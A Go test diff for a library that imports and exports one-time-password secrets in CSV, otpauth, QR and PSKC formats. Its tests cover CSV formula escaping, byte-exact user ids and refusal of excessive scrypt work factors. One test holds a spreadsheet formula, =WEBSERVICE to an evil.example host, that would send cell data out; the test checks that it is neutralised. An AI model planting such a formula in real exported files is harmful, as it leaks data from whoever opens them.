@@ -18,9 +18,12 @@ import (
 func TestWhatIsWrittenIsReadAgain(t *testing.T) {
 	t.Parallel()
 	name := rapid.StringMatching(`[a-zA-Z0-9_.@:|/%&=+#?,;"'\\<>äß€-][ a-zA-Z0-9_.@:|/%&=+#?,;"'\\<>äß€-]{0,30}[a-z@:%&+\\"]`)
+	// Blanks at the ends of an id are its own, and none is a formula for a spreadsheet.
+	id := rapid.Map(rapid.SliceOfN(rapid.SampledFrom([]string{" ", "\u00a0", "'", "=", "@", "-", "\"", ",", "#", "\\", "ß", "x", "20", ":", "uid="}), 1, 6),
+		func(parts []string) string { return strings.Join(parts, "") })
 	record := rapid.Custom(func(t *rapid.T) factorfile.Record {
 		return factorfile.Record{
-			UserID:    name.Draw(t, "user"),
+			UserID:    rapid.OneOf(name, id).Draw(t, "user"),
 			Secret:    factorfile.NewSecret(rapid.SliceOfN(rapid.Byte(), 10, 64).Draw(t, "secret")),
 			Algorithm: rapid.SampledFrom([]string{"SHA1", "SHA256", "SHA512"}).Draw(t, "algorithm"),
 			Digits:    rapid.SampledFrom([]int{6, 8}).Draw(t, "digits"),
@@ -112,6 +115,56 @@ func TestAFileThatAgeEncryptedIsReadInArmorTooAndNotWhenItIsCut(t *testing.T) {
 	}
 	if _, err := readAll(factorfile.OTPAuth, whole, o); err == nil || !strings.Contains(err.Error(), "--from csv") {
 		t.Errorf("the kind of what is encrypted: %v", err)
+	}
+}
+
+// What somebody who wants to keep a computer busy says of the work in the header.
+func TestAFileThatAgeEncryptedWithMoreWorkThanIsUsualIsRefused(t *testing.T) {
+	t.Parallel()
+	o := factorfile.Options{Password: secret(password)}
+	text := change(t, write(t, factorfile.CSV, three(), o), `-> scrypt \S+ (10)\n`, func(string) string { return "19" })
+	if _, err := readAll(factorfile.CSV, text, o); err == nil || !strings.Contains(err.Error(), "work factor above 18") {
+		t.Error(err)
+	}
+}
+
+// Members choose what their devices are called, and the operator opens the file.
+func TestNoTextOfTheCSVIsAFormulaForASpreadsheet(t *testing.T) {
+	t.Parallel()
+	const formula = `=WEBSERVICE("https://evil.example/?"&A1)`
+	records := []factorfile.Record{
+		with(three()[0], func(r *factorfile.Record) { r.UserID, r.Username, r.Email, r.Name = formula, "+49", "@x", "-1" }),
+		with(three()[0], func(r *factorfile.Record) { r.UserID, r.Username, r.Email, r.Name = "'@x", "'", "'' =", "''=1" }),
+	}
+	text := write(t, factorfile.CSV, records, factorfile.Options{Plain: true})
+	if want := `"'` + strings.ReplaceAll(formula, `"`, `""`) + `",'+49,'@x,`; !strings.Contains(text, "\n"+want) || !strings.Contains(text, ",'-1\n") {
+		t.Errorf("%s is not in\n%s", want, text)
+	}
+	got := read(t, factorfile.CSV, text, factorfile.Options{})
+	for i := range got {
+		got[i].Number = records[i].Number
+	}
+	compare(t, records, got)
+}
+
+// An id that ends in a blank is another one's.
+func TestIDsAreReadByteByByte(t *testing.T) {
+	t.Parallel()
+	for _, f := range []struct {
+		format factorfile.Format
+		text   string
+	}{
+		{factorfile.CSV, "user_id,secret\n x ," + rfc6238Text + "\n"},
+		{factorfile.CSV, "secret,user_id\n" + rfc6238Text + ", x \n"},
+		{factorfile.CSV, "user_id,secret\n\" x \"," + rfc6238Text + " \n"},
+		{factorfile.OTPAuth, "otpauth://totp/%20x%20?secret=" + rfc6238Text},
+		{factorfile.OTPAuthMigration, qrCode(t, 1, 0, parameters{rfc6238, " x ", "", 1, 1, 2})},
+		{factorfile.PSKC, strings.Replace(write(t, factorfile.PSKC, three()[:1], factorfile.Options{Plain: true}), "UID=alice", " x ", 1)},
+		{factorfile.PSKC, strings.Replace(write(t, factorfile.PSKC, three()[:1], factorfile.Options{Plain: true}), "UID=alice", ` UID= \20x\20 , DC=example`, 1)},
+	} {
+		if got := read(t, f.format, f.text, factorfile.Options{}); len(got) != 1 || got[0].UserID != " x " || got[0].Username != "x" && f.format != factorfile.CSV {
+			t.Errorf("%s: %+v", f.text, got)
+		}
 	}
 }
 
